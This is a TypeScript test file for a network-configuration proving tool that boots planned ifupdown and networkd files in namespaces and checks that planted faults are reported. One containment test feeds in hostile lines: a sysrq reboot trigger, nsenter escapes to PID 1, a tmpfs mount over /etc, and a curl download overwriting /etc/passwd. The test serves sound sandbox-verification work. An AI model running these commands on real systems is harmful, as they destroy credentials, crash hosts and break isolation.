import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { after, test } from 'node:test';
import { pinInterfacesBridge } from '../../src/plan/bridge-files/ifupdown.ts';
import {
  BOOT_HOST,
  bootedHost,
  DELIVERED,
  deliveredHost,
  interfacesOf,
  prove,
  redsOf,
  withFault,
} from '../support/boot-world.ts';
import { INTERFACES } from '../support/interfaces-corpus.ts';
import { Namespaces } from '../support/netns.ts';
import { networkFixture, requirePlan } from '../support/network-fixtures.ts';

/**
 * `net prove` boots the planned files: Debian's own ifup runs on them, with its hooks and the lines' own commands. What it makes is
 * compared with what the steps made. Each fault that is planted in the files turns the proof red, and is named.
 */
const spaces = new Namespaces('bt');
after(() => spaces.close());

const EARLY: Record<string, string> = {
  'pre-up sysctl': 'pre-up sysctl -w net.ipv4.conf.eth0.rp_filter=0',
  'pre-up echo': 'pre-up echo 0 > /proc/sys/net/ipv4/conf/eth0/rp_filter',
  'pre-up ip': 'pre-up ip address add 198.51.100.7/32 dev eth0',
};

for (const [name, line] of Object.entries(EARLY)) {
  test(`a ${name} about the uplink is one that ifup can run once there is a bridge; as it was, it would lock out`, async () => {
    const fixture = await deliveredHost(spaces, `${DELIVERED}    ${line}\n`);
    assert.deepEqual(fixture.boot.ran && fixture.boot.failures, []);
    const plan = requirePlan(fixture, 'bridged');
    assert.deepEqual(redsOf(await prove(fixture.facts, plan)), []);
    const moved = line.replace('pre-up', 'up').replace(/eth0/, 'br0');
    assert.ok(interfacesOf(plan).includes(moved), interfacesOf(plan));
    const proof = await prove(
      fixture.facts,
      withFault(plan, (text) => text.replace(moved, moved.replace('up', 'pre-up'))),
    );
    const reds = new Map(redsOf(proof).map(({ id, cause }) => [id, cause ?? '']));
    assert.match(
      reds.get('boot-runs') ?? '',
      /interfaces:\d+: .*br0.*: .*(No such file|nonexistent|Cannot find device).*: ifup gives br0 up here/,
    );
    assert.match(reds.get('boot-state') ?? '', /there is no the bridge br0|there is no 192\.0\.2\.200\/26 on br0/);
    assert.ok(reds.has('boot-host-ipv4'), [...reds.keys()].join());
  });
}

test('a line that the kernel refuses stops ifup: the proof says which, why, and what does not come', async () => {
  const text = `${DELIVERED}    up ip route add 203.0.113.96/27 via 192.0.2.193
    up ip route add 198.18.0.0/15 via 192.0.2.193\n`;
  const fixture = await deliveredHost(spaces, text);
  const plan = requirePlan(fixture, 'bridged');
  const proof = await prove(
    fixture.facts,
    withFault(plan, (after) => after.replace('203.0.113.96/27', '203.0.113.97/27')),
  );
  const reds = new Map(redsOf(proof).map(({ id, cause }) => [id, cause ?? '']));
  const why =
    /interfaces:\d+: ip route add 203\.0\.113\.97\/27 via 192\.0\.2\.193: Error: Invalid prefix for given prefix length\.: ifup gives br0 up/;
  assert.match(reds.get('boot-runs') ?? '', why);
  assert.match(
    reds.get('boot-state') ?? '',
    /there is no the route of IPv4 203\.0\.113\.96\/27 via 192\.0\.2\.193 dev br0/,
  );
  assert.match(
    reds.get('boot-state') ?? '',
    /there is no the route of IPv4 198\.18\.0\.0\/15 via 192\.0\.2\.193 dev br0/,
  );
  assert.match(reds.get('boot-state') ?? '', why);
  assert.ok(!reds.has('boot-host-ipv4'), 'the address and the gateway come before the line');
});

test('systemd-networkd runs on the planned files too: what it cannot read is told in its words', async () => {
  const fixture = networkFixture('scaleway-one-nic-networkd');
  const plan = requirePlan(fixture, 'bridged');
  const files = plan.files.map((file) => ({
    ...file,
    after: file.after?.replace('Address=203.0.113.45/24\n', 'Address=203.0.113.45/240\n') ?? null,
  }));
  assert.notDeepEqual(files, plan.files);
  const proof = await prove(fixture.facts, { ...plan, files });
  const reds = new Map(redsOf(proof).map(({ id, cause }) => [id, cause ?? '']));
  const cause = reds.get('boot-state') ?? '';
  assert.match(cause, /there is no 203\.0\.113\.45\/24 on br0/);
  assert.match(cause, /systemd-networkd said: \/etc\/systemd\/network\/10-br0\.network:\d+: .*203\.0\.113\.45\/240/);
  assert.ok(reds.has('boot-host-ipv4'));
});

test('what is not brought back today is told, and is no fault of the plan', async () => {
  const fixture = await deliveredHost(
    spaces,
    `${DELIVERED}    up systemctl restart fail2ban\n    up false\n    up true\n`,
  );
  const plan = requirePlan(fixture, 'routed');
  const proof = await prove(fixture.facts, plan);
  assert.deepEqual(redsOf(proof), []);
  const told = proof.assumptions.join('\n');
  assert.match(told, /fails at a boot today already: \S+interfaces:9: false: .*ifup gives eth0 up here/);
  assert.match(
    told,
    /interfaces:8: at a boot "systemctl restart fail2ban" does its work: it leaves the twin and was not run/,
  );
  assert.deepEqual(
    proof.parts?.map(({ what }) => what),
    ['a provider that asks by ARP, IPv6 none', 'the boot'],
  );
});

test('what routers advertise comes to a link that listens, although no file says so, and not to one that does not', async () => {
  const leases = {
    eth0: [
      'address replace 2001:db8:7::7/64 dev eth0 nodad valid_lft 3600 preferred_lft 3600',
      'route add ::/0 via fe80::1 dev eth0 proto ra',
      'address replace 198.51.100.9/24 dev eth0 valid_lft 3600 preferred_lft 3600',
    ],
  };
  const listening = await bootedHost(spaces, DELIVERED, { leases });
  const addresses = async (place: string) => (await spaces.run(place, 'ip', ['-o', 'address'])).stdout;
  assert.match(await addresses(listening.place), /2001:db8:7::7\/64/);
  // What DHCP leases is asked for.
  assert.doesNotMatch(await addresses(listening.place), /198\.51\.100\.9/);
  const deaf = await bootedHost(spaces, `${DELIVERED}    up echo 0 > /proc/sys/net/ipv6/conf/eth0/accept_ra\n`, {
    leases,
  });
  assert.doesNotMatch(await addresses(deaf.place), /2001:db8:7::7/);
});

test("settings in the port's own stanza stay about the port, and ifup runs what stands behind them", async () => {
  const files = [{ path: INTERFACES, text: BRIDGED, mode: 0o644 }];
  const pinned = pinInterfacesBridge(files, { name: 'br0', mac: MAC, uplink: 'eth0' });
  const text = (pinned.ok && pinned.files[0]?.text) || '';
  assert.match(text, /up sysctl -w net\.ipv4\.conf\.eth0\.send_redirects=0/);
  const { boot, place } = await bootedHost(spaces, text);
  assert.deepEqual(boot.ran && boot.failures, []);
  assert.equal(await setting(place, 'net.ipv4.conf.eth0.send_redirects'), '0');
  assert.equal(await setting(place, 'net.ipv4.conf.eth0.arp_announce'), '2');
  const { stdout } = await spaces.run(place, 'ip', ['route', 'show', '198.18.0.0/15']);
  assert.match(stdout, /via 192\.0\.2\.193 dev br0/);
  // As it was rewritten once: ifup gives the port up, and the line behind it does not come.
  const wrong = await bootedHost(spaces, text.replace('conf.eth0.send_redirects', 'conf.br0.send_redirects'));
  assert.match((wrong.boot.ran && wrong.boot.failures[0]?.text) || '', /ifup gives eth0 up here/);
  assert.equal(await setting(wrong.place, 'net.ipv4.conf.eth0.arp_announce'), '0');
});

test('a boot in the twin leaves the host alone, whatever its files run, and nobody stays behind', async () => {
  const before = await readFile('/proc/sys/kernel/threads-max', 'utf8');
  const { boot, place } = await bootedHost(
    spaces,
    `${DELIVERED}    pre-up touch /etc/lodge-boot-test /var/lib/lodge-boot-test /run/lodge-boot-test
    up echo 12345 > /proc/sys/kernel/threads-max || true
    up echo b > /proc/sysrq-trigger || true
    up nsenter --target 1 --net ip link add lodgeboot0 type veth || true
    up /run/lodge-boot/real/usr/bin/nsenter --target ${process.pid} --net true && ip link add lodgeboot1 type veth || true
    up /run/lodge-boot/real/usr/bin/mount -t tmpfs none /etc && touch /etc/lodge-boot-escaped || true
    up sh -c 'while true; do /run/lodge-boot/sleep 1; done' lodge-boot-stray > /dev/null 2>&1 &
    up curl -o /etc/passwd http://192.0.2.1/
`,
  );
  assert.deepEqual(boot.ran && boot.failures, []);
  const told = (boot.ran && boot.supposed.join('\n')) || '';
  assert.match(told, /"curl -o \/etc\/passwd http:\/\/192\.0\.2\.1\/" does its work/);
  assert.match(told, /nsenter --target 1/);
  for (const place of ['/etc', '/var/lib', '/run']) assert.ok(!existsSync(`${place}/lodge-boot-test`), place);
  assert.ok(!existsSync('/etc/lodge-boot-escaped'));
  assert.equal(await readFile('/proc/sys/kernel/threads-max', 'utf8'), before);
  const { stdout } = await spaces.run(place, 'ip', ['-o', 'link']);
  assert.doesNotMatch(stdout, /lodgeboot/);
  assert.deepEqual(await spaces.pids(place), []);
});

test('an entry that somebody set in a bridge is there after a boot, and told where the planned file loses it', async () => {
  const entry = 'bridge fdb add 02:00:5e:10:00:77 dev eth0 master static';
  const text = DELIVERED.replace(
    /auto eth0[\s\S]*/,
    `iface eth0 inet manual

auto br0
iface br0 inet static
    bridge_ports eth0
    bridge_hw ${MAC}
    bridge_stp off
    bridge_fd 0
    address 192.0.2.200/26
    gateway 192.0.2.193
    up ${entry}\n`,
  );
  const fixture = await deliveredHost(spaces, text);
  assert.deepEqual(fixture.boot.ran && fixture.boot.failures, []);
  assert.ok(fixture.facts.forwardingDatabase.some(({ mac, isStatic }) => mac === '02:00:5e:10:00:77' && isStatic));
  const plan = requirePlan(fixture, 'bridged');
  assert.deepEqual(redsOf(await prove(fixture.facts, plan)), []);
  const lost = withFault(plan, (after) => after.replace(`up ${entry}`, 'up true'));
  const reds = redsOf(await prove(fixture.facts, lost));
  assert.deepEqual(
    reds.map(({ id }) => id),
    ['boot-state'],
  );
  assert.match(reds[0]?.cause ?? '', /there is no the entry of br0 for 02:00:5e:10:00:77 at eth0/);
});

test('a file that waits for what never comes is given up, and the line is named', async () => {
  const { boot } = await bootedHost(spaces, `${DELIVERED}    up tail -f /dev/null\n`, { limitSec: 4 });
  const [failure] = boot.ran ? boot.failures : [];
  assert.equal(failure?.spot, `${INTERFACES}:8`);
  assert.match(failure?.text ?? '', /ifupdown was not done after 4 s, in: tail -f \/dev\/null/);
});

const MAC = BOOT_HOST.uplink.mac;
const BRIDGED = `auto lo
iface lo inet loopback

auto eth0
iface eth0 inet manual
    up sysctl -w net.ipv4.conf.eth0.send_redirects=0
    up echo 2 > /proc/sys/net/ipv4/conf/eth0/arp_announce

auto br0
iface br0 inet static
    pre-up ip address flush dev eth0
    bridge_ports eth0
    address 192.0.2.200/26
    gateway 192.0.2.193
    up ip route add 198.18.0.0/15 via 192.0.2.193 dev eth0
`;

async function setting(place: string, name: string): Promise<string> {
  return (await spaces.run(place, 'sysctl', ['-n', name])).stdout.trim();
}
